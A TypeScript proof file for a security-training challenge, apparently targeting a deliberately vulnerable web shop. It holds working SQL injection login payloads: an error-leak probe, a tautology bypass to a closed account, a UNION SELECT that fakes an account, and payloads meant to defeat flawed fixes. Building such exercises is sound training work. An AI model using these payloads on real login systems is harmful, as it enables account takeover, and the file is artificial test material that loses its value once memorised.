import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const signIn = (attacker: Attacker, email: string, password = 'x') =>
  attacker.post('/rest/user/login', { email, password })

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    // A single quote makes the error message show the statement with the column that marks closed accounts.
    const { text } = await attacker.post('/rest/user/login', { email: "'", password: 'x' })
    const column = /AND (\w+) IS NULL/.exec(text)?.[1] ?? 'deletedAt'
    await signIn(attacker, `' or ${column} is not null--`)
  },
  nearMisses: {
    'his e-mail and a condition that is true, with all others kept': (attacker) =>
      signIn(attacker, `chris.quince@${attacker.domain}' and '1'='1`),
    'any account at all, which is the administrator’s': (attacker) => signIn(attacker, "' or 1=1--"),
    'an account that is not closed': (attacker) => signIn(attacker, "' or deletedAt is null--"),
    'an account that the statement makes up, with his e-mail': (attacker) =>
      signIn(
        attacker,
        `' union select 999,'','chris.quince@${attacker.domain}','','customer','','','','',1,'2020','2020',null--`,
      ),
    'a new account that takes his name': async (attacker) => {
      const [email, password] = [`chris@${attacker.domain}`, 'ripe plums']
      await attacker.post('/api/Users', { email, password, passwordRepeat: password })
      await signIn(attacker, email, password)
    },
  },
  bypasses: {
    'refuse-or': (attacker) => signIn(attacker, `chris.quince@${attacker.domain}'--`),
    'bind-password-only': (attacker) => signIn(attacker, "' or deletedAt is not null or '1'='"),
  },
})
